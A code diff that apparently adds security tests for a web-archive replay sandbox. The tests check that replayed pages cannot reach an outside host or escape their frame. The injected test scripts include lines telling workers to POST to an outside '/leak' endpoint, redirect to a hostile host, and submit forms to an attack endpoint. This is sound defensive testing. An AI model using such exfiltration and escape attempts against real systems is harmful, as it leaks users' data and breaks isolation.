@@ -172,6 +172,35 @@ test('nothing is sent outside or to the API', async (t) => {
   assertUnharmed(stage);
 });
 
+test('a worker from a script of replay itself sends nothing outside, whatever it is told', async (t) => {
+  const stage = await staged(
+    t,
+    ({ replayOrigin, outside }) => `
+    ['wombat', 'wombatWorkers', 'autoFetchWorker', 'pinakes-replay'].forEach(function (name) {
+      attempt(name, function () {
+        var worker = new realm.Worker('${replayOrigin}/static/' + name + '.js');
+        worker.postMessage({ type: 'fetch-all', values: ['${outside}/leak', { url: '${outside}/leak', options: { mode: 'no-cors', method: 'POST', body: 'x' } }] });
+        return 'tried';
+      });
+    });
+  `,
+  );
+  await stage.page.waitForLoadState('networkidle');
+  assert.equal(Object.keys(await settled(stage.frame)).length, 4);
+  assertUnharmed(stage);
+});
+
+for (const modifier of ['', 'mp_', 'if_', 'fr_', 'js_', 'esm_', 'cs_', 'im_', 'oe_', 'wkr_', 'wkrm_', 'wkrf_']) {
+  test(`a page that is opened in a window, asked for as "${modifier}", is led into the frame`, async (t) => {
+    const stage = await staged(t, ({ outside }) => `own.location = '${outside}/away'; outcome.ready = 'tried';`);
+    const { page, uiOrigin, replayOrigin, outsideHits } = stage;
+    await page.goto(`${replayOrigin}/web/20200401100000${modifier}/https://hostile.example/`);
+    await page.waitForLoadState('networkidle');
+    assert.equal(new URL(page.url()).origin, uiOrigin);
+    assert.deepEqual(outsideHits, [], 'something went outside');
+  });
+}
+
 const FORMS: Script = ({ uiOrigin, outside }) => `
     ['${uiOrigin}/api/attack', '${outside}/form'].forEach(function (url) {
       ['', '_top', '_blank', '_parent'].forEach(function (target) {
